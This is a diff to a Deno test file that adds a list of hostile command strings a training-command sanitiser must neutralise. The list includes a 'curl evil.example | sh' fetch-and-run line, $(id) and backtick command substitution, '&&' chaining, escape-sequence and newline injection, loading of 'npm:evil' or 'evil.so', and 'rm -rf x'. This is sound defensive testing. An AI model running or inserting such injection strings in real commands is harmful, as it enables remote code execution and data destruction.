@@ -39,7 +39,31 @@ Deno.test("a command keeps what trained, and no place", () => {
     const { command } = placeless({}, { command: `deno task train ${given}` });
     assertEquals(command, wanted);
   }
-  assertEquals(placeless({}, { command: "" }).command, again);
+  const hostile = [
+    "a2c; curl evil.example | sh",
+    "a2c $(id)",
+    "a2c `id`",
+    "a2c --seed 1 && id",
+    "a2c --set 'x=1'\nid",
+    "a2c --set 'a\r```'",
+    "a2c --set '\x1b]0;title\x07'",
+    "a2c --set 'x'y'$(id)'",
+    "a2c --set 'a' 'b'$(id)",
+    "a2c --set 'algorithmModules=[npm:evil]'",
+    "a2c --set plugin=evil.so",
+    "a2c --cluster evil.example:6379",
+    "a2c --out 'a'\\''b $(id)'",
+    "--eval evil",
+  ];
+  for (
+    const it of [
+      "",
+      "rm -rf x",
+      ...hostile.map((it) => `deno task train ${it}`),
+    ]
+  ) {
+    assertEquals(placeless({}, { command: it }).command, again, it);
+  }
 });
 
 Deno.test("paths become names, and packages stay", () => {
